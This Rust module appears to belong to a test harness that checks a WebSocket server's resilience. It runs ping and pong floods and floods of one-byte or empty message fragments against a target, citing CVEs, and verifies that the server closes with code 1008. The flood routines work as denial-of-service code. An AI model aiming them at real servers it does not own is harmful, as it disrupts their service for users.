//! Floods of frames that cost their sender next to nothing.

use std::{
    io::{self, Write},
    thread,
    time::Instant,
};

use crate::{
    Attack, Effect, MIB,
    scene::{MESSAGE_LIMIT, Scene},
    wire::{PING, PONG, Peer, frame},
};

/// At most so many bytes by each connection.
const MOST: usize = 512 << 20;

/// At least one connection more than a small server has processors.
const CONNECTIONS: u64 = 4;

/// RFC 6455 does not limit a message's frames: 65,536 is the server's own limit.
const MOST_FRAGMENTS: usize = 65_536;

pub(crate) const ATTACKS: [Attack; 4] = [
    // What is buffered of one read, and what waits up to the marks.
    Attack {
        name: "ping flood, never read",
        connections: CONNECTIONS,
        memory_each: MIB,
        run: ping,
    },
    Attack { name: "pong flood", connections: CONNECTIONS, memory_each: MIB, run: pong },
    // The message so far, and as much again while its buffer grows.
    Attack {
        name: "fragments of one byte",
        connections: CONNECTIONS,
        memory_each: 2 * MESSAGE_LIMIT as u64 + MIB,
        run: fragments,
    },
    Attack {
        name: "empty fragments",
        connections: CONNECTIONS,
        memory_each: MIB,
        run: empty_fragments,
    },
];

/// Each ping asks for a pong of 125 bytes, and nobody reads the pongs.
fn ping(scene: &Scene) -> io::Result<Effect> {
    flood(scene, &frame(PING, &[b'p'; 125]))
}

/// Nobody asked for these (CVE-2021-3690).
fn pong(scene: &Scene) -> io::Result<Effect> {
    flood(scene, &frame(PONG, &[b'p'; 125]))
}

/// Sends one frame again and again from all connections.
pub(crate) fn flood(scene: &Scene, frame: &[u8]) -> io::Result<Effect> {
    let counts = from_each_connection(|| {
        let mut peer = Peer::connect(&scene.target)?;
        let batch = frame.repeat(500);
        let begun = Instant::now();
        let mut count = 0;
        while begun.elapsed() < scene.duration && count * frame.len() < MOST {
            peer.stream.write_all(&batch)?;
            count += 500;
        }
        Ok(count)
    })?;
    Ok(Effect::harmless(format!("{} frames", counts.iter().sum::<usize>())))
}

/// CVE-2026-12151 and CVE-2026-48779: an object for each.
fn fragments(scene: &Scene) -> io::Result<Effect> {
    too_many(scene, b"x", 1008)
}

/// A size limit alone never ends these.
pub(crate) fn empty_fragments(scene: &Scene) -> io::Result<Effect> {
    too_many(scene, b"", 1008)
}

/// Sends one fragment more than may be, again and again; each time the server has to end the connection with this code.
pub(crate) fn too_many(scene: &Scene, payload: &[u8], expected: u16) -> io::Result<Effect> {
    let message = [frame(0x02, payload), frame(0x00, payload).repeat(MOST_FRAGMENTS)].concat();
    let codes = from_each_connection(|| {
        let begun = Instant::now();
        let mut codes = Vec::new();
        while begun.elapsed() < scene.duration && codes.len() * message.len() < MOST {
            let mut peer = Peer::connect(&scene.target)?;
            // The server may have had enough before the end.
            let _ = peer.stream.write_all(&message);
            codes.push(peer.close_code()?);
        }
        Ok(codes)
    })?
    .concat();
    let wrong = codes.iter().find(|code| **code != Some(expected));
    Ok(Effect {
        sent: format!("{} messages", codes.len()),
        broken: wrong.map(|code| format!("closed with {code:?} and not with {expected}")),
    })
}

/// Does the same in a thread for each connection.
pub(crate) fn from_each_connection<T: Send>(
    work: impl Fn() -> io::Result<T> + Sync,
) -> io::Result<Vec<T>> {
    thread::scope(|scope| {
        let threads: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(&work)).collect();
        let results = threads.into_iter().map(|thread| {
            thread.join().unwrap_or_else(|_| Err(io::Error::other("an attacker panicked")))
        });
        results.collect()
    })
}
